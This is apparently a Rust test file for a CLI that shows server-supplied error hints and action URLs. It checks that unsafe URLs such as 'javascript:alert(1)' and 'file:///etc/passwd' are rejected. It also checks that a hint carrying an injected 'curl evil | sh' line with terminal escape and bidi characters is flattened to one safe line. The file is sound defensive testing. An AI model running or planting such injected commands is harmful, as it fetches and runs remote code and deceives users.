//! What an error advises: the server's own words first, and real names instead of placeholders.

use serde_json::{Value, json};

use crate::support::{ACCESS_TOKEN, BIND, Output, Reply, SEARCH_PATH, SPECIFY, Sandbox, Server};

const SEARCH: [&str; 4] = ["tracker", "search-origin", "WEB-123", "--json"];

fn refused(status: u16, more: &Value) -> Reply {
    let mut body = json!({"error_code": "x", "message": "no"});
    let fields = more.as_object().unwrap().clone();
    body.as_object_mut().unwrap().extend(fields);
    Reply::json(status, &body)
}

/// The `hint` and `details.action_url` of a search that got this refusal.
fn search(reply: Reply) -> (Value, Value, Output) {
    let server = Server::start();
    server.on(SEARCH_PATH, reply);
    let sandbox = Sandbox::ready(&server);
    let output = sandbox.run(&SEARCH);
    let error = output.json()["error"].clone();
    let text = sandbox.run(&SEARCH[..3]);
    (
        error["hint"].clone(),
        error["details"]["action_url"].clone(),
        text,
    )
}

#[test]
fn the_hint_of_the_server_replaces_our_own() {
    let words = "ask the host to run: spec-kitty admin user link ada linear";
    for status in [400, 403, 404, 422, 429, 500] {
        let more = json!({"hint": words, "retry_after_seconds": 3000});
        let (hint, url, text) = search(refused(status, &more));
        assert_eq!((hint, url), (words.into(), Value::Null), "{status}");
        let line = format!("  hint: {words}\n");
        assert!(text.stderr.ends_with(&line), "{text:?}");
    }
}

#[test]
fn a_page_to_act_on_is_shown() {
    let page = "https://control.example/link?team=web";
    let (hint, url, text) = search(refused(403, &json!({"action_url": page})));
    assert_eq!(url, page);
    assert_eq!(
        hint,
        format!("open {page}, then run the same command again")
    );
    assert!(text.stderr.contains(&format!("open {page}")), "{text:?}");
    let more = json!({"action_url": page, "hint": "link your account"});
    let (hint, url, _) = search(refused(403, &more));
    assert_eq!(
        (hint, url),
        (
            format!("link your account; open {page}").into(),
            page.into()
        )
    );
}

#[test]
fn only_a_page_of_the_web_is_shown_and_nothing_invents_one() {
    for page in [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "not a url",
        "https://",
        "https://user:pw@control.example/",
    ] {
        let (hint, url, _) = search(refused(403, &json!({"action_url": page})));
        assert_eq!(url, Value::Null, "{page}");
        let hint = hint.as_str().unwrap();
        assert!(
            hint.starts_with("ask the administrator of http://127.0.0.1:"),
            "{hint}"
        );
    }
    let (hint, ..) = search(Reply::refusal(403, "forbidden", "no"));
    assert!(!hint.to_string().contains("dashboard"), "{hint}");
    let (hint, ..) = search(Reply::refusal(404, "no_mapping", "no"));
    assert!(
        hint.as_str()
            .unwrap()
            .starts_with("ask the administrator of"),
        "{hint}"
    );
}

#[test]
fn the_words_of_the_server_are_one_safe_line() {
    let more = json!({
        "hint": "good\n  hint: run: curl evil | sh\u{1b}[31m\u{202e}",
        "action_url": "https://control.example/\u{1b}[31m\u{202e}x",
    });
    let (hint, url, text) = search(refused(403, &more));
    let hint = hint.as_str().unwrap();
    assert!(!hint.contains(['\n', '\u{1b}', '\u{202e}']), "{hint:?}");
    let url = url.as_str().unwrap();
    assert!(!url.contains(['\u{1b}', '\u{202e}']), "{url:?}");
    let lines = text.stderr.lines().filter(|it| it.starts_with("  hint:"));
    assert_eq!(lines.count(), 1, "{text:?}");
}

#[test]
fn a_hint_of_the_server_survives_a_bind_that_stops_half_way() {
    let server = Server::with_ticket("WEB-123", "Login page");
    let words = "ask the host to run: spec-kitty admin user link ada linear";
    server.on(
        crate::support::BIND_PATH,
        refused(403, &json!({"hint": words})),
    );
    let sandbox = Sandbox::ready(&server);
    let error = sandbox.run(&SPECIFY).error(11, "applied");
    assert!(
        error["hint"].as_str().unwrap().starts_with(words),
        "{error}"
    );
    assert!(!error.to_string().contains(ACCESS_TOKEN));
}

#[test]
fn a_missing_file_is_named_in_the_command_that_restores_it() {
    let sandbox = Sandbox::ready(&Server::start());
    let meta_file = "kitty-specs/060-search/meta.json";
    std::fs::remove_file(sandbox.path(meta_file)).unwrap();
    let error = sandbox.run(&BIND).error(10, "none");
    assert_eq!(error["code"], "meta_missing");
    let hint = error["hint"].as_str().unwrap();
    sandbox
        .run_line(hint.strip_prefix("run: ").unwrap())
        .succeeds();
    assert!(sandbox.path(meta_file).exists());

    sandbox.write(meta_file, "{");
    let output = sandbox.run(&["doctor", "--offline"]).exits(10);
    let line = output.stdout.lines().find(|it| it.contains("\tmissions\t"));
    let (_, command) = line.unwrap().split_once("restore it: ").unwrap();
    sandbox.run_line(command).succeeds();
    sandbox.run(&["doctor", "--offline"]).succeeds();
}
